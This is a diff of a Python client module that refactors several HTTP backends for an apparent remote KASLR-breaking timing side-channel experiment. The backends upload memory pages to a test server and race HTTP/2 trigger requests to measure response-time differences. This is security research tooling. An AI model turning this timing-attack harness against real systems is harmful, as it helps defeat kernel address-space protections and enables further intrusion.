@@ -1,342 +1,750 @@
 from abc import ABC, abstractmethod
 import asyncio
-import aiohttp
-import requests
-import numpy as np
-import httpx
-from h2time import H2Time, H2Request
+import time
+import binascii
+import hashlib
+from concurrent.futures import ThreadPoolExecutor, wait, FIRST_COMPLETED
+from lazyimport import lazy_import
+from runtime import runtime
+from scheduler import UploadScheduler, UploadReport
+from manifest import parse_server_manifest
+from variant import PageVariant
+import pipeline
+
+np = lazy_import('numpy')
+
+# Client libraries are imported by the backend that uses them
+aiohttp = lazy_import('aiohttp')
+requests = lazy_import('requests')
+httpx = lazy_import('httpx')
+h2time = lazy_import('h2time')
+
+# Page bodies for /set-page are either hex encoded (default) or the raw page
+# memory, which the server recognizes by the X-Page-Encoding header
+UPLOAD_HEADERS = {
+    'hex': {},
+    'binary': {'Content-Type': 'application/octet-stream', 'X-Page-Encoding': 'binary'},
+}
+
 
 class KASLRService(ABC):
-    def __init__(self, host, port, http_version, page_buffers):
+    def __init__(self, host, port, http_version, page_buffers, upload_format='hex', scheduler=None, manifest=None):
         self.host = host
         self.port = port
         self.http2 = True if http_version == 'http2' else False
         self.page_buffers = page_buffers
+        self.upload_format = upload_format
+        self.upload_headers = UPLOAD_HEADERS[upload_format]
+        self.scheduler = scheduler or UploadScheduler()
+        # Offsets whose pages were accepted by the server
+        self.live_offsets = set()
+        # Pages the server already holds are skipped if a manifest is given
+        self.manifest = manifest
+        self._scratch = bytearray()
+
+    def page_body(self, offset):
+        buffer = self.page_buffers[offset]
+
+        if isinstance(buffer, PageVariant):
+            if self.upload_format == 'hex':
+                # hexlify copies, so the pages can be rendered into one reusable buffer
+                if len(self._scratch) != len(buffer):
+                    self._scratch = bytearray(len(buffer))
+                buffer = buffer.render(self._scratch)
+            else:
+                # async uploads are in flight concurrently and need their own body
+                buffer = buffer.tobytes()
+
+        if self.upload_format == 'hex':
+            return binascii.hexlify(buffer)
+        return buffer
+
+    def page_tags(self, offsets):
+        if hasattr(self.page_buffers, 'tags'):
+            return dict(zip(offsets, self.page_buffers.tags(offsets)))
+        return {x: hashlib.sha256(self.page_body(x)).hexdigest()[0:32] for x in offsets}
+
+    def page_headers(self, tag=None):
+        if tag is None:
+            return self.upload_headers
+        return dict(self.upload_headers, **{'X-Page-Tag': tag})
+
+    def close(self):
+        """Releases connections and event loops held by the backend."""
+        pass
+
+    def prefetch(self, offsets):
+        # Lazy page buffer caches build the announced offsets in batches
+        if hasattr(self.page_buffers, 'prefetch'):
+            self.page_buffers.prefetch(offsets)
 
     @abstractmethod
     def supports_http2(self):
         return False
 
+    def update_live_offsets(self, report):
+        self.live_offsets.update(report.live)
+        self.live_offsets.difference_update(report.failed)
+        return report
+
     @abstractmethod
-    def set_offset(self, offset):
+    async def upload_page(self, offset, body, tag=None):
+        """Uploads the body of an offset with its content tag, True if the
+        server accepted it."""
         pass
 
+    async def set_offset_async(self, offset):
+        return await self.set_offsets_async([offset])
+
+    async def fetch_server_manifest(self):
+        """(instance id, {offset: tag}) of the server, None if it has no
+        /manifest endpoint."""
+        request = pipeline.build_request('GET', '/manifest', f'{self.host}:{self.port}')
+        try:
+            protocol = await pipeline.open_connection(self.host, self.port)
+            try:
+                status, body = await asyncio.wait_for(protocol.send(request), 5)
+            finally:
+                protocol.close()
+            if status != 200:
+                return None
+            return parse_server_manifest(body)
+        except (OSError, ValueError, asyncio.TimeoutError, pipeline.HTTPError):
+            return None
+
+    async def pending_offsets(self, offsets, report):
+        """Offsets whose pages the server does not hold yet, the others are
+        recorded as skipped in report. Everything is pending if the server
+        reports no manifest, unless the local one is trusted.
+        """
+        if self.manifest is None:
+            return list(offsets)
+
+        report.tags = self.page_tags(offsets)
+
+        server_manifest = await self.fetch_server_manifest()
+        if server_manifest is None:
+            known_tags = self.manifest.tags if self.manifest.trust_local else {}
+        else:
+            instance, known_tags = server_manifest
+            self.manifest.update(instance, known_tags)
+
+        report.skip([x for x in offsets if known_tags.get(x) == report.tags[x]])
+        return [x for x in offsets if known_tags.get(x) != report.tags[x]]
+
+    def record_manifest(self, report):
+        if self.manifest is None:
+            return report
+
+        uploaded = [x for x in report.live if x not in report.skipped]
+        self.manifest.record({x: report.tags[x] for x in uploaded}, report.failed)
+        self.manifest.save()
+        return report
+
+    async def set_offsets_async(self, offsets):
+        """Uploads through the scheduler and returns an UploadReport."""
+        report = UploadReport(offsets)
+        pending = await self.pending_offsets(offsets, report)
+
+        self.prefetch(pending)
+        await self.scheduler.run(pending, self.page_body, lambda offset, body: self.upload_page(offset, body, report.tags.get(offset)), report)
+        report.end = time.perf_counter()
+
+        self.record_manifest(report)
+        return self.update_live_offsets(report)
+
     @abstractmethod
-    def set_offsets(self, offsets):
+    async def try_offset_async(self, offset):
         pass
 
     @abstractmethod
-    def try_offset(self, offset):
+    async def try_offsets_async(self, offsets):
         pass
 
-    @abstractmethod
+    # Synchronous API, runs the coroutines on the shared runtime
+    def set_offset(self, offset):
+        return runtime.run(self.set_offset_async(offset))
+
+    def set_offsets(self, offsets):
+        return runtime.run(self.set_offsets_async(offsets))
+
+    def try_offset(self, offset):
+        return runtime.run(self.try_offset_async(offset))
+
     def try_offsets(self, offsets):
-        pass
+        return runtime.run(self.try_offsets_async(offsets))
+
 
 class KASLRServiceHTTP2(ABC):
     @abstractmethod
-    def try_pair(self, pair):
+    async def try_pair_async(self, pair):
+        """The offset of pair whose response took longer, None if the
+        race was a tie."""
         pass
 
+    async def try_pairs_async(self, pairs):
+        """Winner (or None) of every pair, backends that can race pairs
+        concurrently override this."""
+        return [await self.try_pair_async(x) for x in pairs]
+
+    def try_pair(self, pair):
+        return runtime.run(self.try_pair_async(pair))
+
+    def try_pairs(self, pairs):
+        return runtime.run(self.try_pairs_async(pairs))
+
 
 class KASLRServiceRequests(KASLRService):
+    """Blocking backend, the async API runs it in a worker thread.
+
+    Requests go through one Session whose pool keeps a connection per
+    worker alive. Uploads are spread over a thread pool of workers, by
+    default the scheduler limit. Page bodies are still built in the
+    calling thread, so the page buffer cache is never shared. Triggers are
+    sent one after another unless ordered is False, then they run on the
+    pool as well. Results are returned in the order of the offsets either
+    way.
+    """
+
+    def __init__(self, *args, workers=None, ordered=True, **kwargs):
+        super().__init__(*args, **kwargs)
+        self.workers = max(1, workers or self.scheduler.limit)
+        self.ordered = ordered
+        self._session = None
+        self._executor = None
+
     def supports_http2(self):
         return False
 
-    def set_offset(self, offset):
+    @property
+    def session(self):
+        if self._session is None:
+            adapter = requests.adapters.HTTPAdapter(pool_connections=1, pool_maxsize=self.workers, pool_block=True)
+            self._session = requests.Session()
+            self._session.mount('http://', adapter)
+        return self._session
+
+    @property
+    def executor(self):
+        if self._executor is None:
+            self._executor = ThreadPoolExecutor(max_workers=self.workers, thread_name_prefix='KASLRServiceRequests')
+        return self._executor
+
+    def close(self):
+        if self._executor is not None:
+            self._executor.shutdown()
+            self._executor = None
+        if self._session is not None:
+            self._session.close()
+            self._session = None
+
+    def __upload_page(self, offset, body, tag=None):
         url = f'http://{self.host}:{self.port}/set-page/{offset}'
-        requests.post(url, data=self.page_buffers[offset])
+        response = self.session.post(url, data=body, headers=self.page_headers(tag))
+        return response.status_code == 200
+
+    async def upload_page(self, offset, body, tag=None):
+        return await asyncio.to_thread(self.__upload_page, offset, body, tag)
+
+    def set_offset(self, offset):
+        return self.set_offsets([offset])
+
+    def __upload_pending(self, pending, report):
+        in_flight = {}
+
+        def collect(futures):
+            for future in futures:
+                offset, nbytes = in_flight.pop(future)
+                try:
+                    ok, error = future.result(), None
+                except Exception as e:
+                    ok, error = False, e
+                report.record(offset, ok, nbytes, error)
+                if self.scheduler.progress:
+                    self.scheduler.progress(report)
+
+        for offset in pending:
+            if len(in_flight) >= self.workers:
+                done, _ = wait(in_flight, return_when=FIRST_COMPLETED)
+                collect(done)
+
+            body = self.page_body(offset)
+            self.scheduler.throttle(len(body))
+            in_flight[self.executor.submit(self.__upload_page, offset, body, report.tags.get(offset))] = (offset, len(body))
+
+        collect(list(in_flight))
 
     def set_offsets(self, offsets):
-        for offset in offsets:
-            self.set_offset(offset)
+        report = UploadReport(offsets)
+        pending = runtime.run(self.pending_offsets(offsets, report))
+
+        self.prefetch(pending)
+        self.scheduler.run_blocking(pending, self.__upload_pending, report)
+
+        self.record_manifest(report)
+        return self.update_live_offsets(report)
 
     def try_offset(self, offset):
         url = f'http://{self.host}:{self.port}/set-byte/{offset}'
-        response = requests.post(url, data=None)
+        response = self.session.post(url, data=None)
 
         if response.status_code != 200:
-            m = [np.NaN, np.NaN]
+            m = [np.nan, np.nan]
         else:
             m = [int(x) for x in response.text.split(",")]
 
         return m
 
-    def try_offsets(self, offsets):
+    def try_offsets(self, offsets, ordered=None):
+        if ordered is None:
+            ordered = self.ordered
+
+        if not ordered:
+            return list(self.executor.map(self.try_offset, offsets))
+
         measurements = [0] * len(offsets)
         for idx, offset in enumerate(offsets):
             measurements[idx] = self.try_offset(offset)
 
         return measurements
 
+    async def set_offsets_async(self, offsets):
+        return await asyncio.to_thread(self.set_offsets, offsets)
+
+    async def try_offset_async(self, offset):
+        return await asyncio.to_thread(self.try_offset, offset)
+
+    async def try_offsets_async(self, offsets):
+        return await asyncio.to_thread(self.try_offsets, offsets)
+
 
 class KASLRServiceAIOHTTP(KASLRService):
-    def supports_http2(self):
-        return False
+    """Keeps one keep-alive session on the shared runtime for its lifetime,
+    so triggers reuse pooled connections instead of paying TCP setup on
+    every call. close() releases it."""
 
-    async def __set_offset(self, offset):
-        async with aiohttp.ClientSession() as session:
-            url = f'http://{self.host}:{self.port}/set-page/{offset}'
-            session.post(url, data=self.page_buffers[offset])
+    def __init__(self, host, port, http_version, page_buffers, upload_format='hex', connection_limit=100, keepalive_timeout=30, **kwargs):
+        super().__init__(host, port, http_version, page_buffers, upload_format, **kwargs)
+        self.connection_limit = connection_limit
+        self.keepalive_timeout = keepalive_timeout
+        self._session = None
 
-    def set_offset(self, offset):
-        url = f'http://{self.host}:{self.port}/set-page/{offset}'
-        asyncio.run(self.__set_offset(offset))
+    def supports_http2(self):
+        return False
 
-    async def __put_page(self, session, idx, url, data):
-        async with session.post(url, data=data) as response:
+    async def __get_session(self):
+        if self._session is None or self._session.closed:
+            connector = aiohttp.TCPConnector(
+                limit=self.connection_limit,
+                limit_per_host=self.connection_limit,
+                keepalive_timeout=self.keepalive_timeout
+            )
+            self._session = aiohttp.ClientSession(connector=connector)
+        return self._session
+
+    async def close_async(self):
+        if self._session is not None:
+            await self._session.close()
+            self._session = None
+
+    def close(self):
+        if self._session is not None:
+            runtime.run(self.close_async())
+
+    async def __put_page(self, session, idx, url, data, headers=None):
+        async with session.post(url, data=data, headers=headers) as response:
             await response.text()
             return (idx, response)
 
-    async def __set_offsets(self, offsets):
-        tasks = []
-        async with aiohttp.ClientSession() as session:
-            for idx, offset in enumerate(offsets):
-                url = f'http://{self.host}:{self.port}/set-page/{offset}'
-                tasks.append(
-                    asyncio.ensure_future(
-                        self.__put_page(session, idx, url, self.page_buffers[offset])
-                    )
-                )
-
-            res = await asyncio.gather(*tasks)
-
-    def set_offsets(self, offsets):
-        asyncio.run(self.__set_offsets(offsets))
+    async def upload_page(self, offset, body, tag=None):
+        session = await self.__get_session()
+        url = f'http://{self.host}:{self.port}/set-page/{offset}'
+        _, response = await self.__put_page(session, 0, url, body, self.page_headers(tag))
+        return response.status == 200
 
-    async def __try_offset(self, offset):
-        async with aiohttp.ClientSession() as session:
-            url = f'http://{self.host}:{self.port}/set-byte/{offset}'
-            response = await session.post(url, data=None)
+    async def try_offset_async(self, offset):
+        session = await self.__get_session()
+        url = f'http://{self.host}:{self.port}/set-byte/{offset}'
+        async with session.post(url, data=None) as response:
             if response.status != 200:
-                return [np.NaN, np.NaN]
+                return [np.nan, np.nan]
             else:
                 text = await response.text()
                 return [int(x) for x in text.split(",")]
 
-    def try_offset(self, offset):
-        return asyncio.run(self.__try_offset(offset))
-
-    async def __try_offsets(self, offsets):
-        tasks = []
-        async with aiohttp.ClientSession() as session:
-            for idx, offset in enumerate(offsets):
-                url = f'http://{self.host}:{self.port}/set-byte/{offset}'
-                tasks.append(
-                    asyncio.ensure_future(
-                        self.__put_page(session, idx, url, None)
-                    )
-                )
-
-            results = await asyncio.gather(*tasks)
-
-            measurements = [0] * len(results)
-
-            for result in results:
-                idx, response = result
-                if response.status != 200:
-                    m = [np.NaN, np.NaN]
-                else:
-                    text = await response.text()
-                    m = [int(x) for x in text.split(",")]
-
-                measurements[idx] = m
-
-            return measurements
-
-    def try_offsets(self, offsets):
-        return asyncio.run(self.__try_offsets(offsets))
-
-
-class KASLRServiceHTTPX(KASLRService, KASLRServiceHTTP2):
-    def supports_http2(self):
-        return True
-
-    def set_offset(self, offset):
-        url = f'http://{host}:{port}/set-page/{offset}'
-        httpx.post(url, data=self.page_buffers[offset], timeout=5)
-
-    async def __put_page(self, client, idx, url, data):
-        response = await client.post(url, data=data, timeout=5)
-        return (idx, response)
-
-    async def __set_offsets(self, offsets):
+    async def try_offsets_async(self, offsets):
         tasks = []
-        async with httpx.AsyncClient(http2=self.http2) as client:
-            for idx, offset in enumerate(offsets):
-                url = f'http://{self.host}:{self.port}/set-page/{offset}'
-                tasks.append(
-                    asyncio.ensure_future(
-                        self.__put_page(client, idx, url, self.page_buffers[offset])
-                    )
+        session = await self.__get_session()
+        for idx, offset in enumerate(offsets):
+            url = f'http://{self.host}:{self.port}/set-byte/{offset}'
+            tasks.append(
+                asyncio.ensure_future(
+                    self.__put_page(session, idx, url, None)
                 )
+            )
 
-            res = await asyncio.gather(*tasks)
-
-    def set_offsets(self, offsets):
-        asyncio.run(self.__set_offsets(offsets))
-
-    def try_offset(self, offset):
-        url = f'http://{host}:{port}/set-byte/{offset}'
-        r = httpx.post(url, timeout=5)
+        results = await asyncio.gather(*tasks)
 
-        if r.status_code != 200:
-            return [np.NaN, np.NaN]
-        else:
-            return [int(x) for x in r.text.split(",")]
-
-    async def __try_offsets(self, offsets):
-        tasks = []
-        async with httpx.AsyncClient(http2=self.http2) as client:
-            for idx, offset in enumerate(offsets):
-                url = f'http://{self.host}:{self.port}/set-byte/{offset}'
-                tasks.append(
-                    asyncio.ensure_future(
-                        self.__put_page(client, idx, url, None)
-                    )
-                )
+        measurements = [0] * len(results)
 
-            results = await asyncio.gather(*tasks)
-
-            measurements = [0] * len(results)
+        for result in results:
+            idx, response = result
+            if response.status != 200:
+                m = [np.nan, np.nan]
+            else:
+                text = await response.text()
+                m = [int(x) for x in text.split(",")]
 
-            for idx, r in results:
-                if r.status_code != 200:
-                    m = [np.NaN, np.NaN]
-                else:
-                    m = [int(x) for x in r.text.split(",")]
+            measurements[idx] = m
 
-                measurements[idx] = m
+        return measurements
 
-            return measurements
 
-    def try_offsets(self, offsets):
-        return asyncio.run(self.__try_offsets(offsets))
+class KASLRServicePipeline(KASLRService):
+    """Raw HTTP/1.1 backend on a few persistent connections.
 
-    async def __try_pair(self, pair):
-        tasks = []
-        async with httpx.AsyncClient(http2=True) as client:
-            for idx, offset in enumerate(offsets):
-                url = f'http://{self.host}:{self.port}/set-byte/{offset}'
-                tasks.append(
-                    asyncio.ensure_future(
-                        self.__put_page(client, idx, url, None)
-                    )
-                )
+    The trigger requests of all candidates are prepared once as bytes.
+    Triggers of one call are written back-to-back in a single write and
+    their responses are parsed as they arrive, uploads are pipelined over
+    all connections.
+    """
 
-            results = await asyncio.gather(*tasks)
+    def __init__(self, host, port, http_version, page_buffers, upload_format='hex', connections=4, candidate_count=512, **kwargs):
+        super().__init__(host, port, http_version, page_buffers, upload_format, **kwargs)
+        self.connections = max(1, connections)
+        self.authority = f'{host}:{port}'
+        self.trigger_requests = [self.__build_trigger(x) for x in range(candidate_count)]
+        self._pool = [None] * self.connections
+        self._next = 0
 
-            print(results)
+    def supports_http2(self):
+        return False
 
-            measurements = [0] * len(results)
+    def __build_trigger(self, offset):
+        return pipeline.build_request('POST', f'/set-byte/{offset}', self.authority)
+
+    def trigger_request(self, offset):
+        if 0 <= offset < len(self.trigger_requests):
+            return self.trigger_requests[offset]
+        return self.__build_trigger(offset)
+
+    async def __connection(self, idx=None):
+        # Round robin, connections are opened once and reopened when lost
+        if idx is None:
+            idx = self._next
+            self._next = (self._next + 1) % self.connections
+
+        task = self._pool[idx]
+        if task is None or (task.done() and (task.cancelled() or task.exception() or not task.result().is_open)):
+            task = asyncio.ensure_future(pipeline.open_connection(self.host, self.port))
+            self._pool[idx] = task
+        return await task
+
+    async def close_async(self):
+        for task in self._pool:
+            if task is not None and task.done() and not task.cancelled() and not task.exception():
+                task.result().close()
+        self._pool = [None] * self.connections
+
+    def close(self):
+        if any(self._pool):
+            runtime.run(self.close_async())
+
+    async def upload_page(self, offset, body, tag=None):
+        # Uploads in flight are pipelined over all connections
+        protocol = await self.__connection()
+        await protocol.drain()
+        head = pipeline.build_request('POST', f'/set-page/{offset}', self.authority, len(body), self.page_headers(tag))
+        status, _ = await protocol.send(head, body)
+        return status == 200
+
+    async def try_offset_async(self, offset):
+        return (await self.try_offsets_async([offset]))[0]
+
+    async def try_offsets_async(self, offsets):
+        protocol = await self.__connection()
+        responses = await asyncio.gather(*protocol.send_many([self.trigger_request(x) for x in offsets]))
+
+        measurements = [0] * len(responses)
+
+        for idx, (status, body) in enumerate(responses):
+            if status != 200:
+                m = [np.nan, np.nan]
+            else:
+                m = [int(x) for x in body.split(b",")]
 
-            for idx, r in results:
-                if r.status_code != 200:
-                    m = [np.NaN, np.NaN]
-                else:
-                    m = [int(x) for x in r.text.split(",")]
+            measurements[idx] = m
 
-                measurements[idx] = m
+        return measurements
 
-            return results[0][0]
-
-    def try_pair(self, pair):
-        return asyncio.run(self.__try_pair(pair))
 
+class KASLRServiceHTTPX(KASLRService, KASLRServiceHTTP2):
+    """Keeps persistent clients to the target for its lifetime.
+
+    With http2 every client holds a single HTTP/2 connection (prior
+    knowledge, h2c), uploads and triggers are multiplexed on it as
+    concurrent streams and calls are spread round-robin over the clients.
+    How much of a page upload is in flight is bound by the stream and
+    connection windows the server advertises (see server.py --window),
+    httpx already raises its own receive window to 16 MiB.
+    """
+
+    def __init__(self, *args, connections=1, **kwargs):
+        super().__init__(*args, **kwargs)
+        self.connections = max(1, connections)
+        self._clients = []
+        self._next_client = 0
 
-class KASLRServiceH2Time(KASLRService, KASLRServiceHTTP2):
     def supports_http2(self):
         return True
 
-    async def __set_offset(self, offset):
-        async with aiohttp.ClientSession() as session:
-            url = f'http://{self.host}:6666/set-page/{offset}'
-            session.post(url, data=self.page_buffers[offset])
-
-    def set_offset(self, offset):
-        url = f'http://{self.host}:6666/set-page/{offset}'
-        asyncio.run(self.__set_offset(offset))
-
-    async def __put_page(self, session, idx, url, data):
-        async with session.post(url, data=data) as response:
-            await response.text()
-            return (idx, response)
-
-    async def __set_offsets(self, offsets):
-        tasks = []
-        async with aiohttp.ClientSession() as session:
-            for idx, offset in enumerate(offsets):
-                url = f'http://{self.host}:6666/set-page/{offset}'
-                tasks.append(
-                    asyncio.ensure_future(
-                        self.__put_page(session, idx, url, self.page_buffers[offset])
-                    )
-                )
-
-            res = await asyncio.gather(*tasks)
-
-    def set_offsets(self, offsets):
-        asyncio.run(self.__set_offsets(offsets))
-
-    async def __try_offset(self, offset):
-        async with aiohttp.ClientSession() as session:
-            url = f'http://{self.host}:6666/set-byte/{offset}'
-            response = await session.post(url, data=None)
-            if response.status != 200:
-                return [np.NaN, np.NaN]
+    def __client(self):
+        if len(self._clients) == 0:
+            if self.http2:
+                limits = httpx.Limits(max_connections=1, max_keepalive_connections=1)
             else:
-                text = await response.text()
-                return [int(x) for x in text.split(",")]
-
-    def try_offset(self, offset):
-        return asyncio.run(self.__try_offset(offset))
-
-    async def __try_offsets(self, offsets):
-        tasks = []
-        async with aiohttp.ClientSession() as session:
-            for idx, offset in enumerate(offsets):
-                url = f'http://{self.host}:6666/set-byte/{offset}'
-                tasks.append(
-                    asyncio.ensure_future(
-                        self.__put_page(session, idx, url, None)
-                    )
-                )
+                limits = httpx.Limits(max_connections=self.scheduler.limit, max_keepalive_connections=self.scheduler.limit)
+            self._clients = [
+                httpx.AsyncClient(http1=not self.http2, http2=self.http2, limits=limits, timeout=5)
+                for _ in range(self.connections)
+            ]
+
+        client = self._clients[self._next_client % len(self._clients)]
+        self._next_client += 1
+        return client
+
+    async def close_async(self):
+        clients, self._clients = self._clients, []
+        for client in clients:
+            await client.aclose()
+
+    def close(self):
+        if len(self._clients) > 0:
+            runtime.run(self.close_async())
+
+    def __url(self, endpoint, offset):
+        return f'http://{self.host}:{self.port}/{endpoint}/{offset}'
+
+    @staticmethod
+    def __measurement(response):
+        if response.status_code != 200:
+            return [np.nan, np.nan]
+        return [int(x) for x in response.text.split(",")]
 
-            results = await asyncio.gather(*tasks)
+    async def fetch_server_manifest(self):
+        try:
+            response = await self.__client().get(f'http://{self.host}:{self.port}/manifest')
+            if response.status_code != 200:
+                return None
+            return parse_server_manifest(response.content)
+        except (httpx.HTTPError, ValueError):
+            return None
 
-            measurements = [0] * len(results)
+    async def upload_page(self, offset, body, tag=None):
+        response = await self.__client().post(self.__url('set-page', offset), content=body, headers=self.page_headers(tag))
+        return response.status_code == 200
 
-            for result in results:
-                idx, response = result
-                if response.status != 200:
-                    m = [np.NaN, np.NaN]
-                else:
-                    text = await response.text()
-                    m = [int(x) for x in text.split(",")]
+    async def try_offset_async(self, offset):
+        response = await self.__client().post(self.__url('set-byte', offset))
+        return self.__measurement(response)
 
-                measurements[idx] = m
+    async def try_offsets_async(self, offsets):
+        client = self.__client()
+        responses = await asyncio.gather(*[client.post(self.__url('set-byte', x)) for x in offsets])
+        return [self.__measurement(x) for x in responses]
 
-            return measurements
+    async def try_pair_async(self, pair):
+        """Races both triggers on one connection, the offset whose response
+        arrives last wins like in KASLRServiceH2Time."""
+        client = self.__client()
 
-    def try_offsets(self, offsets):
-        return asyncio.run(self.__try_offsets(offsets))
+        async def trigger(offset):
+            await client.post(self.__url('set-byte', offset))
+            return time.perf_counter_ns()
 
-    async def __try_pair(self, pair):
-        offset1, offset2 = pair
-        url_1 = f'http://{self.host}:{self.port}/set-byte/{offset1}'
-        url_2 = f'http://{self.host}:{self.port}/set-byte/{offset2}'
+        arrival1, arrival2 = await asyncio.gather(*[trigger(x) for x in pair])
 
-        r1 = H2Request('POST', url_1, {'user-agent': 'm'})
-        r2 = H2Request('POST', url_2, {'user-agent': 'm'})
+        return pair[0] if arrival1 > arrival2 else pair[1]
 
-        async with H2Time(r1, r2, sequential=False, num_request_pairs=1, num_padding_params=40, inter_request_time_ms=0) as h2t:
-            results = await h2t.run_attack()
 
-        offset = offset2
-        if results[0][0] < 0:
-            offset = offset1
+class KASLRServiceH2Time(KASLRService, KASLRServiceHTTP2):
+    """Speaks HTTP/2 with prior knowledge to the configured port on one
+    persistent H2Protocol connection.
+
+    Uploads are flow-controlled streams. The triggers of a try_offsets call
+    are opened as concurrent streams in one corked write, as many as the
+    server allows at once, so one round trip measures a whole chunk of
+    candidates. try_offsets_timed also returns the time from the write to
+    the response headers of every stream. Pair races borrow warm
+    connections from pair_pool, a pool of connections connections.
+    kernel_timestamps takes response times from the kernel receive
+    timestamps of the segments instead of the parsing time. tls speaks
+    HTTP/2 over TLS, all connections share one context and resume its
+    session (see h2time.TLSTarget).
+    """
+
+    def __init__(self, *args, timeout=5, connections=1, kernel_timestamps=False, tls=False, **kwargs):
+        super().__init__(*args, **kwargs)
+        self.scheme = 'https' if tls else 'http'
+        self.timeout = timeout
+        self.connections = max(1, connections)
+        self.kernel_timestamps = kernel_timestamps
+        self.pair_pool = None
+        self._protocol = None
+        self._connect_lock = asyncio.Lock()
+        # Requests are kept so their header lists stay memoized
+        self._requests = {}
 
-        return offset
+    def supports_http2(self):
+        return True
 
-    def try_pair(self, pair):
-        return asyncio.run(self.__try_pair(pair))
+    async def __connection(self):
+        async with self._connect_lock:
+            if self._protocol is None or not self._protocol.connection_open:
+                self._protocol = await h2time.open_connection(self.host, self.port, self.scheme, kernel_timestamps=self.kernel_timestamps)
+            return self._protocol
+
+    async def __pair_pool(self):
+        if self.pair_pool is None:
+            self.pair_pool = h2time.H2ConnectionPool(self.host, self.port, self.scheme, size=self.connections, kernel_timestamps=self.kernel_timestamps)
+            await self.pair_pool.warm()
+        return self.pair_pool
+
+    async def close_async(self):
+        protocol, self._protocol = self._protocol, None
+        if protocol is not None and protocol.connection_open:
+            await protocol.terminate()
+        if self.pair_pool is not None:
+            await self.pair_pool.close()
+
+    def close(self):
+        if self._protocol is not None or self.pair_pool is not None:
+            runtime.run(self.close_async())
+
+    def __h2_request(self, method, path):
+        request = self._requests.get((method, path))
+        if request is None:
+            request = self._requests[(method, path)] = h2time.H2Request(method, f'{self.scheme}://{self.host}:{self.port}{path}', {'user-agent': 'm'})
+        return request
+
+    def __headers(self, method, path, headers=None):
+        if headers:
+            request = h2time.H2Request(method, f'{self.scheme}://{self.host}:{self.port}{path}', {'user-agent': 'm'})
+            request.set_headers(headers)
+            return request.get_request_headers()
+        return self.__h2_request(method, path).get_request_headers()
+
+    async def __request(self, method, path, body=b'', headers=None):
+        protocol = await self.__connection()
+        await protocol.wait_for_streams(1)
+        stream_ids = protocol.send_requests([(self.__headers(method, path, headers), body)])
+        response, = await protocol.wait_for_responses(stream_ids, self.timeout)
+        return response
+
+    @staticmethod
+    def __measurement(response):
+        if response is None or response[0] != '200':
+            return [np.nan, np.nan]
+        return [int(x) for x in response[2].decode('ascii').split(",")]
+
+    async def fetch_server_manifest(self):
+        try:
+            response = await self.__request('GET', '/manifest')
+            if response is None or response[0] != '200':
+                return None
+            return parse_server_manifest(response[2])
+        except (OSError, ValueError, asyncio.TimeoutError):
+            return None
+
+    async def upload_page(self, offset, body, tag=None):
+        headers = {k.lower(): v for k, v in self.page_headers(tag).items()}
+        headers['content-length'] = str(len(body))
+        response = await self.__request('POST', f'/set-page/{offset}', body, headers)
+        return response is not None and response[0] == '200'
+
+    async def try_offset_async(self, offset):
+        return self.__measurement(await self.__request('POST', f'/set-byte/{offset}'))
+
+    async def try_offsets_timed_async(self, offsets):
+        """(measurement, response time in ns) per offset, see
+        H2Protocol.wait_for_responses for the clocks involved."""
+        protocol = await self.__connection()
+        triggers = [(self.__headers('POST', f'/set-byte/{x}'), b'') for x in offsets]
+
+        responses = []
+        while len(triggers) > 0 and protocol.connection_open:
+            batch = max(1, min(len(triggers), protocol.max_streams))
+            await protocol.wait_for_streams(batch)
+            stream_ids = protocol.send_requests(triggers[0:batch])
+            responses.extend(await protocol.wait_for_responses(stream_ids, self.timeout))
+            triggers = triggers[batch:]
+
+        responses.extend([None] * len(triggers))
+        return [(self.__measurement(x), np.nan if x is None else x[1]) for x in responses]
+
+    async def try_offsets_async(self, offsets):
+        return [m for m, _ in await self.try_offsets_timed_async(offsets)]
+
+    def try_offsets_timed(self, offsets):
+        return runtime.run(self.try_offsets_timed_async(offsets))
+
+    def __race(self, pair, protocol, repetitions):
+        r1 = self.__h2_request('POST', f'/set-byte/{pair[0]}')
+        r2 = self.__h2_request('POST', f'/set-byte/{pair[1]}')
+        return h2time.H2Time(r1, r2, sequential=False, num_request_pairs=repetitions, num_padding_params=40, inter_request_time_ms=0, protocol=protocol)
+
+    @staticmethod
+    def __winner(pair, diffs):
+        # Response of the second offset arrived first, the first one took longer
+        median = np.median(diffs)
+        if median == 0:
+            return None
+        return pair[0] if median < 0 else pair[1]
+
+    async def try_pair_async(self, pair):
+        diffs, = await self.try_pairs_timed_async([pair])
+        if len(diffs) == 0:
+            raise ConnectionError(f'No responses for pair {pair}')
+        return self.__winner(pair, diffs)
+
+    async def try_pairs_timed_async(self, pairs, repetitions=1):
+        """Races all pairs back-to-back on the warm connections, spread
+        round-robin over them. Returns per pair the arrival time of the
+        response of its second offset minus that of its first (ns), one
+        per repetition. Pairs whose race broke off are raced again once,
+        on connections from the pool, which replaces broken ones."""
+        pool = await self.__pair_pool()
+        groups = [list(range(len(pairs)))[i::self.connections] for i in range(self.connections)]
+
+        async def race(indices):
+            async with pool.connection() as protocol:
+                attacks = [self.__race(pairs[x], protocol, repetitions) for x in indices]
+                return await h2time.run_attacks(attacks, self.timeout)
+
+        timings = [None] * len(pairs)
+        for _ in range(2):
+            groups = [x for x in groups if len(x) > 0]
+            results = await asyncio.gather(*[race(x) for x in groups])
+
+            missing = []
+            for indices, group_results in zip(groups, results):
+                for idx, result in zip(indices, group_results):
+                    timings[idx] = np.array([x[0] for x in result], dtype=np.float64)
+                    if len(result) < repetitions:
+                        missing.append(idx)
+            groups = [missing]
+
+            if len(missing) == 0:
+                break
+
+        return timings
+
+    async def try_pairs_async(self, pairs):
+        timings = await self.try_pairs_timed_async(pairs)
+        for pair, diffs in zip(pairs, timings):
+            if len(diffs) == 0:
+                raise ConnectionError(f'No responses for pair {pair}')
+        return [self.__winner(pair, x) for pair, x in zip(pairs, timings)]
+
+    def try_pairs_timed(self, pairs, repetitions=1):
+        return runtime.run(self.try_pairs_timed_async(pairs, repetitions))